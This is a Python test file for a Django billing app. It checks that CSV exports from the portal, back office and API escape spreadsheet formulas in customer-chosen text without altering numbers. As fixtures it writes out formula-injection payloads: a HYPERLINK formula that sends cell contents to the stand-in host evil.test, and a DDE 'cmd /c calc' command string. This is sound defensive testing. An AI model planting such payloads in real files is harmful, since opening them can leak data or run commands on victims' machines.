"""Files that a spreadsheet opens: no text that a customer chose is a formula in one of them, and the numbers stay."""

import csv
import io
import re
from collections import Counter
from datetime import date
from decimal import Decimal
from typing import Any

from django.test import Client
from django.urls import reverse

from accounts.models import ApiKey, Organization, User
from accounts.services import audit, staff
from billing.admin.reports import REPORTS
from billing.models import Customer, Grant, Partner, PartnerAccrual, PartnerPayout, Plan, WhatIfRun
from billing.services.catalog.what_if import Result
from tests.architecture.sources import lines
from tests.billing.api.conftest import Api
from tests.builders import Shop, browser_of
from tests.matrix.conftest import Tenant
from tests.matrix.test_portal import CALLS, filled

FORMULA = '=HYPERLINK("https://evil.test/"&A1,"Invoice")'
FORMULAS = [FORMULA, "+1+cmd|'/c calc'!A0", "-1+1", "@SUM(1+9)", "\t=1+1", "\r=1+1", "＝1+1", "＠SUM(1)"]
BEGINS = re.compile(r"[=+\-@\t\r\n＝＋－＠]")
NUMBER = re.compile(r"-?\d+(\.\d+)?")


def cells(content: bytes) -> list[str]:
    """What a spreadsheet finds in the file, below the names of its columns."""
    return [cell for row in list(csv.reader(io.StringIO(content.decode(), newline="")))[1:] for cell in row]


def run(content: bytes) -> list[str]:
    """The cells that it would run."""
    return [cell for cell in cells(content) if BEGINS.match(cell) and not NUMBER.fullmatch(cell)]


def numbers(content: bytes) -> Counter[str]:
    return Counter(cell for cell in cells(content) if NUMBER.fullmatch(cell))


def files(acme: Tenant, operator: Api) -> dict[str, bytes]:
    """Every CSV file of portal, back office and API that is about acme."""
    person, _ = User.objects.get_or_create(email="finance@ante.test")
    staff.join(person, staff.FINANCE)
    asked: dict[str, tuple[Any, str, dict[str, str]]] = {
        route: (browser_of(acme.owner), filled(route, acme), {})
        for route, method, _ in CALLS
        if route.endswith(".csv") and method == "GET"
    }
    office: Client = browser_of(person)
    asked |= {f"report {name}": (office, f"/admin/reports/{name}/", {"format": "csv"}) for name in REPORTS}
    as_file = {"format": "csv"}
    asked["office margins"] = (office, "/admin/margins/", as_file | {"group_by": "feature"})
    asked["partner"] = (office, reverse("admin:billing_partner_statement", args=[Partner.objects.get().pk]), {})
    asked["what if"] = (office, reverse("admin:billing_what_if_run", args=[WhatIfRun.objects.get().pk]), as_file)
    found = {name: read(name, client.get(path, query)) for name, (client, path, query) in asked.items()}
    for name in ("margins?group_by=feature", "usage?customer=acme&group_by=model"):
        found[name] = read(name, operator.get(f"/{name}", accept="text/csv"))
    return found


WRITERS = {
    "billing/admin/downloads.py": "report cost-centres",
    "billing/api/margins.py": "margins?group_by=feature",
    "billing/api/usage.py": "usage?customer=acme&group_by=model",
    "portal/downloads.py": "usage/events.csv",
}
"""Who writes such files, and one of the files above that is theirs."""
ELSEWHERE = {
    "billing/engine/journals.py": "of a closed day: tests/billing/services/revenue/test_closing.py",
    "billing/api/json.py": "what the API's own two call the format",
}


def test_whoever_writes_such_files_is_known() -> None:
    found = {name for name, _, line in lines() if "text/csv" in line and not name.startswith("billing/api/schema/")}

    assert found == WRITERS.keys() | ELSEWHERE.keys(), "have one of its files read here"


def read(name: str, response: Any) -> bytes:
    """The file to its end, which makes room for the next."""
    assert (response.status_code, response["Content-Type"][:8]) == (200, "text/csv"), name
    return bytes(response.getvalue())


def test_a_formula_would_be_found() -> None:
    """The control."""
    assert run(f'a,b\r\n"{FORMULA.replace(chr(34), chr(34) * 2)}",-1.50\r\n'.encode()) == [FORMULA]


def test_no_file_holds_a_formula_and_all_keep_their_numbers(acme: Tenant, shop: Shop) -> None:
    operator = Api(shop.key())
    shop.fund(acme.customer, "1000")
    Customer.objects.update(has_budgets=False)
    for text in FORMULAS:
        used = shop.record(acme.customer, id=text, model=text, user=text, project=text, feature=text, input_tokens=1000)
        assert used.status == "charged"
    by = audit.Actor.of_user(acme.owner, ip_address=None, request_id="")
    named = {"object_type": "api_key", "object_id": "x", "organization_id": acme.customer.organization_id}
    audit.record(actor=by, action="x", **named, after={"name": FORMULA})
    partner, brought = Partner.objects.get(), shop.customer("brought")
    PartnerAccrual.objects.create(partner=partner, customer=brought, date=date(2020, 1, 2), base=7, amount=2)
    PartnerPayout.objects.create(partner=partner, upto=date(2020, 1, 2), amount=2, reference=FORMULA)
    WhatIfRun.objects.update(rows=[Result(FORMULA, 1, {"usd": Decimal(-1)}).as_strings()])
    before = files(acme, operator)

    Customer.objects.filter(pk=brought.pk).update(external_id=FORMULA)
    for model in (Customer, Organization, ApiKey, Grant, Plan):
        model._default_manager.update(name=FORMULA)
    after = files(acme, operator)

    assert len(after) >= 10
    assert after.keys() >= set(WRITERS.values())
    assert {name: found for name, content in after.items() if (found := run(content))} == {}
    assert {name: numbers(content) for name, content in after.items()} == {
        name: numbers(content) for name, content in before.items()
    }
    assert sum(content.count(b"'=HYPERLINK") > 0 for content in after.values()) > 6
